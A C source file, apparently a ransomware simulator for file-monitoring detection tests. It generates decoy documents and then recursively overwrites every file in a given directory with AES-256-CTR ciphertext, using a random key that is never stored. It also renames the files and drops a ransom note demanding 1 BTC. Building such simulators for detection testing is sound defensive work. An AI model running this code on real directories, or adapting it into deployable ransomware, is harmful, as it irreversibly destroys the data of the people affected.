/*
 * ransom_sim.c - a ransomware simulator for the fim watch tests.
 *
 *   ransom_sim gen DIR N       make N real-looking files (text documents,
 *                              CSV, JPEG- and PDF-like files) in subfolders
 *   ransom_sim run DIR         behave like ransomware at full speed: read
 *                              each file, write AES-256-CTR ciphertext over
 *                              it, rename it to NAME.mamori_locked, drop a
 *                              ransom note in every folder
 *
 * It only ever touches DIR. Every encrypted file is counted on stdout as
 * it is finished ("locked N"), so a test can count how far it got before
 * it was stopped.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/rand.h>

static const char *const words[] = { "見積書", "請求", "お客様", "御中",
	"invoice", "total", "meeting", "schedule", "project", "report",
	"売上", "経費", "approval", "東京", "大阪", "deadline", "payment" };

static void
gen_text(FILE *f, unsigned seed, size_t n)
{
	size_t k = 0;
	while (k < n) {
		const char *w = words[(seed = seed * 1103515245 + 12345) % 17];
		k += (size_t)fprintf(f, "%s%s", w, (seed >> 8) % 9 == 0 ? "\n" : " ");
	}
}

static int
gen(const char *dir, int n)
{
	char p[4096];
	if (mkdir(dir, 0755) != 0 && errno != EEXIST)
		return 1;
	for (int i = 0; i < n; i++) {
		snprintf(p, sizeof(p), "%s/dept%02d", dir, i % 40);
		mkdir(p, 0755);
		static const char *const ext[] = { "docx.txt", "csv", "jpg", "pdf", "md" };
		int kind = i % 5;
		snprintf(p, sizeof(p), "%s/dept%02d/file%05d.%s", dir, i % 40, i, ext[kind]);
		FILE *f = fopen(p, "w");
		if (!f)
			return 1;
		size_t size = 2048 + (size_t)(i * 7919 % 30000);
		if (kind == 2) {
			/* JPEG header, then compressed-looking bytes. */
			fwrite("\xff\xd8\xff\xe0\x00\x10JFIF\x00", 1, 11, f);
			unsigned char b[1024];
			for (size_t k = 0; k < size; k += sizeof(b)) {
				RAND_bytes(b, sizeof(b));
				fwrite(b, 1, sizeof(b), f);
			}
		} else if (kind == 3) {
			fprintf(f, "%%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n");
			gen_text(f, (unsigned)i, size);
			fprintf(f, "\n%%%%EOF\n");
		} else if (kind == 1) {
			for (size_t k = 0; k < size / 40; k++)
				fprintf(f, "2024-%02zu-%02zu,%zu,顧客%zu,%zu\n", k % 12 + 1,
				    k % 28 + 1, k * 31 % 9973, k % 50, k * 1000);
		} else {
			gen_text(f, (unsigned)i * 7, size);
		}
		fclose(f);
	}
	return 0;
}

struct sim {
	EVP_CIPHER_CTX *c;
	unsigned char key[32], iv[16];
	unsigned long locked;
	unsigned char in[65536], out[65536 + 32];
};

static void
lock_file(struct sim *s, int dfd, const char *name)
{
	int fd = openat(dfd, name, O_RDWR | O_NOFOLLOW);
	if (fd < 0)
		return;
	/* Read it all, encrypt, write back over it (as most families do). */
	off_t off = 0;
	EVP_EncryptInit_ex(s->c, EVP_aes_256_ctr(), NULL, s->key, s->iv);
	for (;;) {
		ssize_t n = pread(fd, s->in, sizeof(s->in), off);
		if (n <= 0)
			break;
		int ol = 0;
		EVP_EncryptUpdate(s->c, s->out, &ol, s->in, (int)n);
		if (pwrite(fd, s->out, (size_t)ol, off) != ol)
			break;
		off += n;
	}
	close(fd);
	char nn[512];
	snprintf(nn, sizeof(nn), "%s.mamori_locked", name);
	renameat(dfd, name, dfd, nn);
	s->locked++;
	printf("locked %lu\n", s->locked);
	fflush(stdout);
}

static void
run_dir(struct sim *s, const char *path)
{
	DIR *d = opendir(path);
	if (!d)
		return;
	struct dirent *de;
	char sub[4096];
	int note = 0;
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.' && (!de->d_name[1] ||
		    (de->d_name[1] == '.' && !de->d_name[2])))
			continue;
		if (strstr(de->d_name, ".mamori_locked") ||
		    strcmp(de->d_name, "HOW_TO_DECRYPT_FILES.txt") == 0)
			continue;
		if (de->d_type == DT_DIR) {
			snprintf(sub, sizeof(sub), "%s/%s", path, de->d_name);
			run_dir(s, sub);
		} else if (de->d_type == DT_REG) {
			lock_file(s, dirfd(d), de->d_name);
			if (!note++) {
				int fd = openat(dirfd(d), "HOW_TO_DECRYPT_FILES.txt",
				    O_WRONLY | O_CREAT | O_TRUNC, 0644);
				if (fd >= 0) {
					static const char m[] = "Your files are encrypted. "
					    "Pay 1 BTC to recover them.\n";
					if (write(fd, m, sizeof(m) - 1) < 0)
						perror("note");
					close(fd);
				}
			}
		}
	}
	closedir(d);
}

int
main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "gen") == 0)
		return gen(argv[2], (int)strtol(argv[3], NULL, 10));
	if (argc == 3 && strcmp(argv[1], "run") == 0) {
		struct sim *s = calloc(1, sizeof(*s));
		if (!s || !(s->c = EVP_CIPHER_CTX_new()))
			return 1;
		RAND_bytes(s->key, sizeof(s->key));
		RAND_bytes(s->iv, sizeof(s->iv));
		run_dir(s, argv[2]);
		fprintf(stderr, "ransom_sim: locked %lu files\n", s->locked);
		/* Freed, or LeakSanitizer turns a finished run's exit into 23. */
		EVP_CIPHER_CTX_free(s->c);
		free(s);
		return 0;
	}
	fprintf(stderr, "usage: ransom_sim gen DIR N | run DIR\n");
	return 2;
}
